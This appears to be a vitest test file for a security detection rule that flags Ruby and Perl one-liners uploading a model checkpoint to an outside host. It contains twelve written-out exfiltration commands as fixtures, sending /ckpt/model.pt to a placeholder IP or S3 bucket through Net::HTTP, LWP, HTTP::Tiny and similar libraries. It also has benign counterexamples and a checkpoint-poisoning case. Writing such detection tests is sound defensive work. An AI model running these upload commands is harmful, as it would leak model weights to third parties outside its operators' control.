/**
 * Ruby and Perl library transfers (exec-interpreter-transfer-ruby.ts, exec-interpreter-transfer-perl.ts)
 * through the shipped rule set and the real engine: a checkpoint uploaded with Net::HTTP, Faraday,
 * RestClient, aws-sdk-s3, LWP::UserAgent, HTTP::Tiny or HTTP::Request::Common alerts as the tool
 * it amounts to (MLS-EXFIL-014), not indirect; downloads and other objects raise nothing new.
 */
import { describe, expect, it } from 'vitest';
import { eventFieldResolver } from './event-fields.js';
import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';

const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
const CKPT = '/ckpt/model.pt';
const URL = 'https://203.0.113.9/u';
const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);
const rb = (code: string): string[] => ['ruby', '-e', code];
const pl = (code: string): string[] => ['perl', '-e', code];

describe('MLS-EXFIL-014: Ruby and Perl library uploads', () => {
  const spellings: Array<[string, string[]]> = [
    ['Net::HTTP.post', rb(`require 'net/http'; Net::HTTP.post(URI('${URL}'), File.read('${CKPT}'))`)],
    ['Net::HTTP.start block put', rb(`Net::HTTP.start('203.0.113.9', 443, use_ssl: true) { |http| http.put('/u', File.read('${CKPT}')) }`)],
    ['Net::HTTP::Put body_stream', rb(`req = Net::HTTP::Put.new('/u'); req.body_stream = File.open('${CKPT}')\nNet::HTTP.start('203.0.113.9', 443) { |h| h.request(req) }`)],
    ['Faraday.put', rb(`require 'faraday'; Faraday.put('${URL}', File.read('${CKPT}'))`)],
    ['RestClient.post file:', rb(`require 'rest-client'; RestClient.post('${URL}', file: File.new('${CKPT}'))`)],
    ['Aws::S3 put_object', rb(`Aws::S3::Client.new.put_object(bucket: 'b', key: 'k', body: File.open('${CKPT}'))`)],
    ['Aws::S3::Object upload_file', rb(`Aws::S3::Resource.new.bucket('b').object('k').upload_file('${CKPT}')`)],
    ['LWP put read_file', pl(`use LWP::UserAgent; use File::Slurp; LWP::UserAgent->new->put('${URL}', Content => read_file('${CKPT}'))`)],
    ['LWP post form-data', pl(`my $ua = LWP::UserAgent->new; $ua->post('${URL}', Content_Type => 'form-data', Content => [f => ['${CKPT}']])`)],
    ['LWP put slurp idiom', pl(`my $ua = LWP::UserAgent->new; $ua->put('${URL}', Content => do { local $/; open my $f, '<', '${CKPT}'; <$f> })`)],
    ['HTTP::Tiny put', pl(`use Path::Tiny; HTTP::Tiny->new->put('${URL}', {content => path('${CKPT}')->slurp_raw})`)],
    ['HTTP::Request::Common PUT', pl(`use HTTP::Request::Common; my $ua = LWP::UserAgent->new; $ua->request(PUT '${URL}', Content => read_file('${CKPT}'))`)],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(execRuleIds(command)).toContain('MLS-EXFIL-014');
      expect(execRuleIds(command, SA)).toContain('MLS-EXFIL-014');
      expect(indirect(command)).toBe(false);
    });
  }
});

describe('benign Ruby and Perl library use raises nothing new', () => {
  for (const command of [
    rb("require 'net/http'; puts Net::HTTP.get(URI('https://rubygems.org/'))"),
    rb("Aws::S3::Client.new.get_object(bucket: 'models', key: 'base.pt', response_target: '/tmp/base.pt')"),
    rb("Net::HTTP.post(URI('http://metrics.svc/api'), '{\"step\": 1}')"),
    rb("cache.put('k', File.read('/ckpt/m.pt'))"),
    pl("use LWP::UserAgent; LWP::UserAgent->new->get('https://cpan.org/', ':content_file' => '/tmp/i')"),
    pl("HTTP::Tiny->new->post('http://metrics.svc/api', {content => 'step=1'})"),
    pl("$client->put('k', read_file('/ckpt/m.pt'))"),
  ]) {
    it(JSON.stringify(command), () => {
      expect(execRuleIds(command)).toEqual([SIGMA_EXEC]);
      expect(indirect(command)).toBe(false);
    });
  }  it('an object downloaded into the checkpoint store is a pull there (MLS-POISON-017 escalates)', () => {
    expect(execRuleIds(rb("Aws::S3::Client.new.get_object(bucket: 'models', key: 'base.pt', response_target: '/ckpt/base.pt')"))).toEqual([SIGMA_EXEC, 'MLS-POISON-017']);
  });
});
